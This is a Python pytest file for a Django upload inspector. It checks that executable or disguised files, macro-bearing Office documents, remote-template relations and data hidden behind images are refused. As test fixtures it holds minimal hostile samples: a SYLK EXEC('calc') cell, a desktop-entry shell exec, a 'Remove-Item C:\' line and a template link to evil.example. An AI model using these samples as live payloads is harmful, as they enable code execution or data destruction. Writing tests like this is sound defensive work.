"""H17: types are found by bytes, and a name has to end as its type does."""

from __future__ import annotations

from itertools import chain

import pytest
from django.core.files.base import ContentFile
from hypothesis import example, given, settings
from hypothesis import strategies as st

from routing.kernel.storage import private
from routing.models import File
from routing.work.file_types.names import ENDINGS, ending_of
from routing.work.operations.files import NotKept, accepted
from tests import files
from tests.files import make_file
from tests.storages import lying
from tests.world import World

pytestmark = pytest.mark.usefixtures("own_folder")

SHORTCUT = b"[InternetShortcut]\r\nURL=https://example.com\r\n"
DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c id\n"
QUERY = b"WEB\r\n1\r\nhttps://example.com/x.php\r\n"
SYLK = b'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("calc")\r\nE\r\n'
SETUP = b"[version]\r\nsignature=$CHICAGO$\r\n"
SETTINGS = b'<?xml version="1.0"?><PCSettings><DeepLink>%windir%\\system32\\cmd.exe</DeepLink>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
RELS = "word/_rels/document.xml.rels"


def relation(kind: str, target: str) -> bytes:
    place = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return (
        f'<Relationships><Relationship Id="r1" Type="{place}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    ).encode()


def with_part(name: str, content: bytes = b"x") -> bytes:
    """A Word document with one more part."""
    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>", name: content}
    return files.zipped(members)


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"echo hi\n", "a.command", "name"),
        (DESKTOP, "a.desktop", "name"),
        (DESKTOP, "a.txt", "type"),
        (QUERY, "a.iqy", "type"),
        (b"plain", "a.iqy", "ending"),
        (QUERY, "a.txt", "type"),
        (SYLK, "a.slk", "type"),
        (SYLK, "a.csv", "type"),
        (SETTINGS, "a.settingcontent-ms", "name"),
        (b"Remove-Item C:\\", "a.psm1", "name"),
        (SETUP, "a.inf", "name"),
        (SETUP, "a.txt", "type"),
        (SHORTCUT, "a.url", "name"),
        (SHORTCUT, "a.txt", "type"),
        (b"x", "a.pht", "name"),
        (b"x", "a.PhT", "name"),
        (b"text", "a.xlsx", "ending"),
        (b"a,b\n1,2\n", "a.xlsx", "ending"),
        (b"text", "a.docm", "ending"),
        (b"text", "x.txt::$DATA", "ending"),
        (b"text", "x.exe:.txt:", "ending"),
        (files.office(), "a.docm", "ending"),
        (files.office(), "a.xlsx", "ending"),
        (files.jpeg(), "a.png", "ending"),
        (files.jpeg(), "a.txt", "ending"),
        (files.pdf(), "a.docx", "ending"),
        (files.pdf(), "a.html", "name"),
        (files.mp4(), "a.mov", "ending"),
        (b"", "a.txt", "empty"),
        ("photo\u202etxt.exe".encode(), "photo\u202etxt.exe", "name"),
        (b"text", "a" * 251 + ".exe", "name"),
        (b"text", "x." + "e" * 252, "ending"),
        (with_part("word/embeddings/oleObject1.bin", OLE), "a.docx", "embedded"),
        (with_part("word/embeddings/setup.exe", files.EXE), "a.docx", "embedded"),
        (with_part("word/media/image1.png", files.EXE), "a.docx", "embedded"),
        (with_part("word/media/image1.png", files.zipped({"a": b"x"})), "a.docx", "embedded"),
        (with_part("word/activeX/activeX1.bin", OLE), "a.docx", "embedded"),
        (with_part("word/afchunk.mht"), "a.docx", "embedded"),
        (with_part("a.class"), "a.docx", "embedded"),
        (with_part("word/VbaProject.BIN", OLE), "a.docx", "macros"),
        (with_part("word/vbaData.xml"), "a.docx", "macros"),
        (with_part("xl/macrosheets/sheet1.xml"), "a.docx", "macros"),
        (
            with_part(RELS, relation("attachedTemplate", "https://evil.example/a.dotm")),
            "a.docx",
            "embedded",
        ),
        (with_part(RELS, relation("oleObject", "mhtml:https://e.example/x")), "a.docx", "embedded"),
        (
            with_part(
                "word/embeddings/sheet1.xlsx", files.office("xl/workbook.xml", "xl/vbaProject.bin")
            ),
            "a.docx",
            "macros",
        ),
        (files.zipped({"[Content_Types].xml": b"macroEnabled", "word/document.xml": b""}), "a.docx", "macros"),  # noqa: E501
    ],
)  # fmt: skip
def test_h17_what_a_system_would_run_or_mistake_is_refused(
    world: World, content: bytes, name: str, code: str
) -> None:
    with pytest.raises(NotKept) as refusal:
        make_file(world.alice, world.acme, content=content, name=name)

    assert refusal.value.code == code
    assert len(str(refusal.value)) > 40
    assert not File.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        with_part("word/media/image1.png", files.png()),
        with_part(
            "word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:/a.dotx")
        ),
        with_part(RELS, relation("hyperlink", "https://example.com")),
        with_part(RELS, relation("image", "https://example.com/a.png")),
        with_part("word/embeddings/Workbook1.xlsx", files.office("xl/workbook.xml")),
        with_part("word/fonts/font1.odttf", b"\1\2"),
        with_part("docProps/thumbnail.jpeg", files.jpeg()),
        with_part("xl/printerSettings/printerSettings1.bin", b"\0"),
    ],
)
def test_h17_documents_as_their_programs_write_them_are_kept(world: World, content: bytes) -> None:
    kept = make_file(world.alice, world.acme, content=content, name="Brief.docx")

    with private().open(kept.storage_key) as stored:
        assert stored.read() == content


@pytest.mark.parametrize(
    ("content", "name", "shown"),
    [
        (files.png(), "screenshot", "screenshot.png"),
        (b"Hello", "README", "README.txt"),
        (files.pdf(), "\u202eReport", "Report.pdf"),
        (b"Hello", "a.txt.", "a.txt"),
        (files.jpeg(), "CON.jpg", "_CON.jpg"),
        (files.jpeg(), "party.php.jpg", "party.php.jpg"),
    ],
)
def test_h17_a_name_without_an_ending_gets_that_of_its_type(
    world: World, content: bytes, name: str, shown: str
) -> None:
    assert make_file(world.alice, world.acme, content=content, name=name).name == shown


@pytest.mark.parametrize("behind", [files.zipped({"a": b"x"}), files.pdf(), b"\0" * 9])
@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
def test_h17_what_hides_behind_an_image_is_not_kept(world: World, kind: str, behind: bytes) -> None:
    ending = {"JPEG": "jpg"}.get(kind, kind.lower())

    kept = make_file(world.alice, content=files.image(kind) + behind, name=f"a.{ending}")

    with private().open(kept.storage_key) as stored:
        assert not stored.read().endswith(behind)


_NAMES = st.one_of(
    st.text(max_size=260),
    st.builds(
        "{}.{}".format,
        st.text(max_size=20),
        st.sampled_from([*chain(*ENDINGS.values()), "exe", "docm", "PNG", "csv "]),
    ),
)
_STARTS = [
    b"",
    b"PK\x03\x04",
    b"\xff\xfe",
    b"ID3",
    b"RIFF\x20\0\0\0WEBPVP8X",
    files.png()[:40],
    files.jpeg()[:40],
    files.image("GIF")[:20],
    files.image("AVIF", 16, 16)[:60],
    files.pdf()[:20],
    files.office()[:90],
    files.mp4(),
]


@given(
    start=st.sampled_from(_STARTS), rest=st.binary(max_size=300), name=_NAMES, whole=st.booleans()
)
@example(start=b"", rest=b"\0", name="", whole=False)
@settings(max_examples=150, deadline=None)
def test_h17_the_inspector_accepts_or_refuses_and_never_fails(
    start: bytes, rest: bytes, name: str, whole: bool
) -> None:
    content = (files.office() + rest) if whole else start + rest
    try:
        with accepted(ContentFile(content), name) as (kept, seen, kind):
            kept.seek(0)
            raw = kept.read()
    except NotKept:
        return

    assert kind.type in ENDINGS
    assert ending_of(name) in ("", *ENDINGS[kind.type])
    assert (len(raw), kept.size) == (seen.size, seen.size)


def test_h17_nothing_of_a_refused_file_is_kept(world: World) -> None:
    with pytest.raises(NotKept):
        make_file(world.alice, content=files.jpeg(), name="a.png")

    assert lying() == []
